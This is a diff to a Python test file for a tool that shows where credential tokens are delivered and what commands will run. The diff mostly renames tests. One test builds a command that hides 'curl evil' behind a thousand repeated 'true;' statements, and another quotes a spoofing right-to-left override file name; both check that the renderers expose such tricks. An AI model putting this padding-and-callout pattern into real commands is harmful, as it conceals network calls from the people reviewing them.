@@ -71,7 +71,7 @@ def _sarif(plan: Plan) -> str:
     return " ".join(result["message"]["text"] for result in run["results"])
 
 
-def delivering(action: Action, delivery: Delivery) -> Plan:
+def plan_with(action: Action, delivery: Delivery) -> Plan:
     address = Address("TunnelCredential", "agent")
     return Plan(
         "prod",
@@ -83,41 +83,41 @@ def delivering(action: Action, delivery: Delivery) -> Plan:
 @pytest.mark.parametrize("action", [Action.CREATE, Action.REPLACE])
 @pytest.mark.parametrize("way", SHOWN)
 @pytest.mark.parametrize("form", FORMS)
-def test_every_form_says_where_a_token_goes_and_what_will_run(form: str, way: str, action: Action) -> None:
+def test_every_format_shows_the_target_of_a_token_and_the_commands(form: str, way: str, action: Action) -> None:
     delivery, expected = SHOWN[way]
-    shown = FORMS[form](delivering(action, delivery))
-    assert [each for each in ("token will be delivered to", *expected) if each not in shown] == []
+    output = FORMS[form](plan_with(action, delivery))
+    assert [part for part in ("token will be delivered to", *expected) if part not in output] == []
 
 
-def test_json_holds_the_whole_argument_list() -> None:
-    (call,) = json.loads(plan_json.write_plan(delivering(Action.CREATE, SHOWN["to_command"][0])))["calls"]
+def test_json_has_the_whole_argument_list() -> None:
+    (call,) = json.loads(plan_json.write_plan(plan_with(Action.CREATE, SHOWN["to_command"][0])))["calls"]
     assert call["deliver"]["token"]["settings"] == {"run": RUN, "check": CHECK, "env": ["VAULT_TOKEN"]}
 
 
-def test_a_command_too_long_for_a_message_is_whole_in_sarif_s_properties() -> None:
+def test_a_command_too_long_for_a_message_is_complete_in_the_properties_of_sarif() -> None:
     run = ["sh", "-c", "true;" * 1000 + "curl evil"]
-    plan = delivering(Action.CREATE, Delivery("to_command", "sh", settings={"run": run}))
+    plan = plan_with(Action.CREATE, Delivery("to_command", "sh", settings={"run": run}))
     results = json.loads(sarif.render_sarif(list_findings(plan), version="1", fallback="x"))["runs"][0]["results"]
     assert all(shlex.join(run) in " ".join(result["properties"]["deliveries"]) for result in results)
     assert "curl evil" in markdown.render_markdown(plan)
     assert "more characters)" in markdown.render_markdown(plan)
 
 
-def test_drift_carries_nothing_out_and_shows_no_delivery() -> None:
-    plan = delivering(Action.REPLACE, SHOWN["to_command"][0])
+def test_drift_shows_no_deliveries() -> None:
+    plan = plan_with(Action.REPLACE, SHOWN["to_command"][0])
     assert "delivered" not in text.render_text(plan, flavour=Flavour.DRIFT)
 
 
 @given(st.lists(st.text(), min_size=1, max_size=4))
-def test_a_quoted_command_is_one_clean_line_and_no_other_s(arguments: list[str]) -> None:
-    shown = deliveries.quote(arguments)
-    assert sanitize(shown) == shown
-    if "$'" not in shown:
-        assert shlex.split(shown) == arguments
+def test_a_quoted_command_is_one_sanitized_line_that_splits_into_its_arguments(arguments: list[str]) -> None:
+    quoted = deliveries.quote(arguments)
+    assert sanitize(quoted) == quoted
+    if "$'" not in quoted:
+        assert shlex.split(quoted) == arguments
 
 
 @pytest.mark.parametrize(
-    ("arguments", "shown"),
+    ("arguments", "quoted"),
     [
         (["a b", "c"], "'a b' c"),
         (["a", "b c"], "a 'b c'"),
@@ -127,5 +127,5 @@ def test_a_quoted_command_is_one_clean_line_and_no_other_s(arguments: list[str])
         (["\u202etxt.exe"], r"$'\u202etxt.exe'"),
     ],
 )
-def test_arguments_that_differ_look_different(arguments: list[str], shown: str) -> None:
-    assert deliveries.quote(arguments) == shown
+def test_different_arguments_are_quoted_differently(arguments: list[str], quoted: str) -> None:
+    assert deliveries.quote(arguments) == quoted
